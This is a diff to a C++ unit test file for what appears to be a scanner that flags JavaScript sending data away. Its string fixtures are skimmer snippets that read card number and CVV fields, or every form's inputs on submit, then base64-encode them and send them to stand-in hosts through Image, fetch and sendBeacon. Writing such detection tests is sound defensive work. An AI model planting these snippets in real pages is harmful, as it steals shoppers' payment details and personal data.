@@ -131,10 +131,55 @@ TEST(BehaviourJs, CardFieldsSentAwayIsAnExfilTrait) {
          "var d=document.getElementById('cc_number').value+document.getElementById("
          "'cc_cvv').value;new Image().src='https://stats.example.top/c?d='+btoa(d);});");
   EXPECT_GE(Strongest(t, "exfil"), 3);
+  // The image under window (window['Image'] folded).
+  EXPECT_GE(Strongest(Js("document.querySelector('#cc_number').addEventListener('change',"
+                         "function(){var d=document.getElementById('cc_number').value;var i=new "
+                         "window.Image();i.src='https://stats.example.top/c?d='+btoa(d);});"),
+                      "exfil"),
+            3);
   EXPECT_EQ(Strongest(Js("var total = price * qty; document.getElementById('sum').innerText ="
                          " total.toFixed(2);"),
                       "exfil"),
             0);
+}
+
+// Every form's fields read when a form is sent, base64'd and posted to a host no provider owns
+// (a minifier's output: window and document under one-letter names); the same harvest sent in
+// clear, or base64'd to the store's own path, is what form tools do.
+TEST(BehaviourJs, EveryFormOnSubmitBase64dToAnUnknownHost) {
+  const char* harvest =
+      "var t=window,e=t.document;e.addEventListener(\"submit\",function(){var "
+      "n=e.querySelectorAll(\"input,select\");if(n){for(var a={},i=0;i<n.length;i++)a[n[i].name]"
+      "=n[i].value;t.fetch(\"https://cdn-analytics-js.example/c\",{method:\"POST\",body:%s})}}"
+      ",!0);";
+  auto with = [&](const char* body) {
+    char buf[1024];
+    std::snprintf(buf, sizeof buf, harvest, body);
+    return Strongest(Js(buf), "exfil");
+  };
+  EXPECT_GE(with("t.btoa(JSON.stringify(a))"), 3);
+  EXPECT_LT(with("JSON.stringify(a)"), 3);
+  EXPECT_GE(Strongest(Js("document.forms[0].onsubmit=function(){var f=document.querySelectorAll("
+                         "'input');var d={};for(var i=0;i<f.length;i++)d[f[i].name]=f[i].value;"
+                         "navigator.sendBeacon('https://img.example.top/p',btoa(JSON.stringify(d)))"
+                         "}"),
+                      "exfil"),
+            3);
+  // The store's own endpoint: no unknown host.
+  EXPECT_LT(Strongest(Js("document.addEventListener('submit',function(){var f=document."
+                         "querySelectorAll('input');var d={};for(var i=0;i<f.length;i++)d[f[i]."
+                         "name]=f[i].value;fetch('/newsletter/subscribe',{method:'POST',body:btoa("
+                         "JSON.stringify(d))})});"),
+                      "exfil"),
+            3);
+  // Read on a click, not when a form is sent: not this trait.
+  EXPECT_LT(
+      Strongest(Js("document.addEventListener('click',function(){var f=document."
+                   "querySelectorAll('input');var d={};for(var i=0;i<f.length;i++)d[f[i]."
+                   "name]=f[i].value;fetch('https://a.example.top/c',{method:'POST',body:btoa("
+                   "JSON.stringify(d))})});"),
+                "exfil"),
+      3);
 }
 
 TEST(BehaviourJs, ForeignScriptHostsInHtml) {
